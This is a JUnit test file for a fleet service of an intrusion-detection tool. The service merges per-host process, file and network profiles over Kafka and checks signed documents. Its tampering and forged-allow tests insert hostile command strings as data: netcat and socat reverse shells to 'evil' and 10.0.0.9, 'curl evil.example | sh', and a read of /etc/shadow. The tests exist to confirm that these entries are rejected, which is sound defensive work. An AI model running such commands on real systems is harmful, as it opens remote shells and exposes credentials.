package dev.vigil.fleet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.PrintStream;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The fleet service against an in-process KRaft broker on loopback (no root). */
public class FleetServiceTest extends dev.vigil.alert.BrokerTest {
    public static final String W = "systemd:nginx.service nginx";
    public static final PrintStream QUIET = new PrintStream(java.io.OutputStream.nullOutputStream());


    public static String event(String host, String dimension, String item, String verdict) {
        return new ObjectMapper().createObjectNode().put("schema", "vigil.profile-event/1").put("host", host).put("workload", W).put("dimension", dimension)
                .put("item", item).put("verdict", verdict).put("state", "learning").put("time", "2026-11-24T00:00:00Z").toString();
    }

    public static void produce(String topic, List<String> values) throws Exception {
        Properties p = new Properties();
        p.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, kafka.bootstrapServers());
        try (var prod = new KafkaProducer<>(p, new StringSerializer(), new StringSerializer())) {
            for (String v : values) prod.send(new ProducerRecord<>(topic, W, v)).get();
        }
    }

    /** Polls until n events have been taken in (or 30 s). */
    public static void drain(FleetService f, long n) throws Exception {
        long end = System.nanoTime() + 30_000_000_000L;
        while (f.counts().get("events") < n && System.nanoTime() < end) f.pollOnce(Duration.ofMillis(200));
    }

    public static FleetDocument.Read latest(String topic, Signer verifier) throws Exception {
        return latest(topic, verifier, W);
    }

    /** The last document published for workload key. */
    public static FleetDocument.Read latest(String topic, Signer verifier, String key) throws Exception {
        List<ConsumerRecord<String, String>> docs = read(topic, 1);
        ConsumerRecord<String, String> last = null;
        for (var r : docs) if (r.key().equals(key)) last = r;
        assertThat(last).isNotNull();
        return FleetDocument.read(last.value(), verifier);
    }

    @Test
    void threeHostsMergeAnItemOnOneHostStaysOutARestartDoesNotDoubleCountATamperedDocumentFails(@TempDir Path dir) throws Exception {
        Signer signer = Signer.generate(dir);
        Signer verifier = Signer.verifier(dir.resolve(Signer.PUBLIC));
        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t1", "events.t1", "profiles.t1", 2, Map.of());
        List<String> first = List.of(
                event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                event("h2", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                event("h3", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                event("h1", "files", "read /etc/nginx/nginx.conf", "learnt"),
                event("h2", "files", "read /etc/nginx/nginx.conf", "learnt"),
                event("h1", "network", "connect tcp public:443", "learnt"));
        try (FleetService f = new FleetService(s, signer, QUIET)) {
            produce("events.t1", first);
            drain(f, first.size());
            assertThat(f.counts()).containsEntry("events", 6L).containsEntry("invalid", 0L);
        }
        FleetDocument.Read d = latest("profiles.t1", verifier);
        assertThat(d.normal()).isEqualTo(Map.of("process", Set.of("/usr/sbin/nginx -> /usr/bin/dash -c logrotate"), "files", Set.of("read /etc/nginx/nginx.conf")));
        assertThat(d.profile().hosts().get("network").get("connect tcp public:443")).as("learnt on one host of three: novel with k = 2").containsExactly("h1");

        // restarted: the state comes back from the profiles topic, the same events again count once; an alert on a second host does not
        // make the endpoint normal, a second host that learnt it does
        try (FleetService f = new FleetService(s, signer, QUIET)) {
            assertThat(f.profile(W).hosts().get("process").get("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")).as("k = 2 hosts decide; no more are kept")
                    .containsExactly("h1", "h2");
            produce("events.t1", first); // every event again: h1's endpoint report a second time must not make it normal
            drain(f, first.size());
            assertThat(f.profile(W).normal(2)).doesNotContainKey("network");
            assertThat(f.profile(W).hosts().get("network").get("connect tcp public:443")).containsExactly("h1");
            produce("events.t1", List.of(event("h2", "network", "connect tcp public:443", "novel")));
            drain(f, first.size() + 1);
            assertThat(f.profile(W).normal(2)).as("alerted on h2: an attack spreading over replicas must not whitelist itself").doesNotContainKey("network");
            assertThat(f.profile(W).novel().get("network").get("connect tcp public:443")).containsExactly("h2");
            produce("events.t1", List.of(event("h3", "network", "connect tcp public:443", "learnt")));
            FleetService.allow(s, signer, W, "risky", "ptrace ATTACH"); // vigil fleet allow, signed with the fleet's key
            assertThatThrownBy(() -> FleetService.allow(s, signer, W, "colour", "red")).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("unknown dimension");
            drain(f, first.size() + 3);
            assertThat(f.counts()).containsEntry("events", 9L).as("resumed from the committed offsets: only the new events").containsEntry("invalid", 0L);
            // learnt on two hosts, but each in a warm-up after a restart (a crash, then the attacker's moment): never normal fleet-wide by that
            produce("events.t1", List.of(event("h1", "files", "read /srv/warm", "warmup"), event("h2", "files", "read /srv/warm", "warmup")));
            drain(f, first.size() + 5);
            assertThat(f.profile(W).normal(2).getOrDefault("files", java.util.Set.of())).doesNotContain("read /srv/warm");
        }
        FleetDocument.Read after = latest("profiles.t1", verifier);
        assertThat(after.profile().hosts().get("process").get("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")).as("no double counting").containsExactly("h1", "h2");
        assertThat(after.normal().get("network")).as("learnt on h1 and h3").containsExactly("connect tcp public:443");
        assertThat(after.profile().novel().get("network").get("connect tcp public:443")).as("the alert on h2 kept apart, signed").containsExactly("h2");
        assertThat(after.normal().get("risky")).as("allowed by an operator").containsExactly("ptrace ATTACH");

        // tampered: an item added to the normal set, or the document signed by another key
        String doc = read("profiles.t1", 1).getLast().value();
        ObjectNode o = (ObjectNode) new ObjectMapper().readTree(doc);
        o.withObjectProperty("normal").withArrayProperty("process").add("/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh evil 4444");
        assertThatThrownBy(() -> FleetDocument.read(o.toString(), verifier)).isInstanceOf(FleetDocument.InvalidException.class)
                .hasMessageContaining("does not verify");
        Signer other = Signer.generate(dir.resolve("other"));
        assertThatThrownBy(() -> FleetDocument.read(FleetDocument.write(after.profile(), 2, other), verifier)).isInstanceOf(FleetDocument.InvalidException.class);
        assertThat(FleetDocument.read(doc, verifier).normal()).isEqualTo(after.normal());
    }

    /**
     * Anyone who can write the events topic (any agent's credentials) forges allows: unsigned, signed by a key the fleet
     * does not trust, or a signed allow with its item changed. None counts; an operator's key the service trusts does.
     */
    @Test
    void anAllowCountsOnlyWhenSignedByAnOperatorKey(@TempDir Path dir) throws Exception {
        Signer signer = Signer.generate(dir);
        Signer operator = Signer.generate(dir, "operator"), stranger = Signer.generate(dir.resolve("stranger"), "operator");
        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t9", "events.t9", "profiles.t9", 2, Map.of());
        Signer trusted = Signer.verifier(dir.resolve("operator.pub"));
        try (FleetService f = new FleetService(s, signer, List.of(trusted), QUIET)) {
            produce("events.t9", List.of(event("operator", "process", "/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh 10.0.0.9 4444", "allowed")));
            FleetService.allow(s, stranger, W, "process", "/usr/sbin/nginx -> /usr/bin/curl evil.example | sh");
            FleetService.allow(s, signer, W, "process", "/usr/sbin/nginx -> /usr/bin/socat exec:sh tcp:10.0.0.9:4444"); // the fleet's key is not an operator's here
            FleetService.allow(s, operator, W, "files", "read /srv/www/robots.txt");
            drain(f, 4);
            ObjectNode changed = (ObjectNode) new ObjectMapper().readTree(read("events.t9", 4).getLast().value());
            changed.put("item", "read /etc/shadow"); // the operator's signature kept, the item changed
            produce("events.t9", List.of(changed.toString()));
            drain(f, 5);
            assertThat(f.counts()).containsEntry("events", 5L).containsEntry("refused_allows", 4L).containsEntry("invalid", 0L);
            assertThat(f.profile(W).allowed()).isEqualTo(Map.of("files", Set.of("read /srv/www/robots.txt")));
        }
        assertThat(latest("profiles.t9", Signer.verifier(dir.resolve(Signer.PUBLIC))).normal()).isEqualTo(Map.of("files", Set.of("read /srv/www/robots.txt")));
    }

    public static String stateEvent(String host, String dimension, String state) {
        return new ObjectMapper().createObjectNode().put("schema", "vigil.profile-event/1").put("host", host).put("workload", W).put("dimension", dimension)
                .put("item", "").put("verdict", "state").put("state", state).put("time", "2026-11-24T00:00:00Z").toString();
    }

    @Test
    void aDimensionStableOnKHostsIsLearntFleetWideAndANewReplicaImportingItAlertsAtOnce(@TempDir Path dir) throws Exception {
        Signer signer = Signer.generate(dir);
        Signer verifier = Signer.verifier(dir.resolve(Signer.PUBLIC));
        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t4", "events.t4", "profiles.t4", 2, Map.of());
        List<String> events = List.of(
                event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                event("h2", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                stateEvent("h1", "process", "stable"),
                stateEvent("h1", "process", "stable"), // told twice: one host still
                stateEvent("h2", "process", "stable"),
                stateEvent("h3", "files", "stable"), // stable on one host of three
                stateEvent("h1", "files", "unstable"), // unstable there: nothing to merge
                stateEvent("h2", "files", "at max size"));
        try (FleetService f = new FleetService(s, signer, QUIET)) {
            produce("events.t4", events);
            drain(f, events.size());
            assertThat(f.counts()).containsEntry("events", (long) events.size()).containsEntry("invalid", 0L);
        }
        FleetDocument.Read d = latest("profiles.t4", verifier);
        assertThat(d.learnt()).as("stable on k = 2 hosts").containsExactly("process");
        assertThat(d.profile().stableHosts()).isEqualTo(Map.of("process", Set.of("h1", "h2"), "files", Set.of("h3")));

        // a new replica imports it: its process dimension is stable before it learnt anything, files still learns
        var im = new dev.vigil.fleet.FleetSubscriber.Import(dev.vigil.profile.WorkloadKey.parse(W), d.profile().version(), d.normal(), d.learnt());
        var set = new dev.vigil.profile.ProfileSet(10);
        var now = java.time.Instant.parse("2026-11-24T00:00:00Z");
        var learning = dev.vigil.profile.Dimension.Learning.production();
        assertThat(dev.vigil.fleet.FleetSubscriber.merge(set, im, learning, now)).isEqualTo(1);
        var p = set.find(dev.vigil.profile.WorkloadKey.parse(W));
        assertThat(p.dimension("process", learning, now).state()).isEqualTo(dev.vigil.profile.Dimension.State.STABLE);
        assertThat(p.dimension("process", learning, now).observe("/usr/sbin/nginx -> /usr/bin/dash -c logrotate", now, 1))
                .isEqualTo(dev.vigil.profile.Dimension.Verdict.SEEN);
        assertThat(p.dimension("process", learning, now).observe("/usr/sbin/nginx -> /usr/bin/dash -i", now, 2))
                .as("a program the fleet never ran: an alert from the first minute").isEqualTo(dev.vigil.profile.Dimension.Verdict.NOVEL);
        assertThat(p.dimension("files", learning, now).state()).isEqualTo(dev.vigil.profile.Dimension.State.LEARNING);

        // the learnt list is signed like the rest: a dimension added to it fails verification
        ObjectNode o = (ObjectNode) new ObjectMapper().readTree(read("profiles.t4", 1).getLast().value());
        o.withArrayProperty("learnt").add("files");
        assertThatThrownBy(() -> FleetDocument.read(o.toString(), verifier)).isInstanceOf(FleetDocument.InvalidException.class);
    }

    @Test
    void aBurstOfReportsBecomesOneSignedDocumentNotOnePerPoll(@TempDir Path dir) throws Exception {
        Signer signer = Signer.generate(dir);
        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t5", "events.t5", "profiles.t5", 2, Map.of());
        List<String> burst = new java.util.ArrayList<>();
        for (int i = 0; i < 300; i++) burst.add(event("h" + (i % 3), "files", "read /srv/www/page-" + (i / 3) + ".html", "learnt"));
        try (FleetService f = new FleetService(s, signer, QUIET); dev.vigil.alert.Metrics m = dev.vigil.alert.Metrics.serve("127.0.0.1", 0, "fleet", "test")) {
            f.register(m);
            produce("events.t5", burst);
            produce("events.t5", List.of("not json"));
            drain(f, burst.size() + 1);
            f.flush();
            assertThat(f.counts().get("published")).as("documents for 300 reports of one workload").isBetween(1L, 3L);
            assertThat(dev.vigil.alert.MetricsTest.scrape(m.port())).contains("vigil_fleet_events_total{result=\"merged\"} 300.0",
                    "vigil_fleet_events_total{result=\"invalid\"} 1.0", "vigil_fleet_documents_published_total " + (double) f.counts().get("published"),
                    "vigil_fleet_workloads 1.0", "vigil_fleet_events_lag 0.0");
        }
        List<ConsumerRecord<String, String>> docs = read("profiles.t5", 1);
        FleetDocument.Read last = FleetDocument.read(docs.getLast().value(), Signer.verifier(dir.resolve(Signer.PUBLIC)));
        assertThat(last.normal().get("files")).hasSize(100).contains("read /srv/www/page-0.html", "read /srv/www/page-99.html");
    }
}
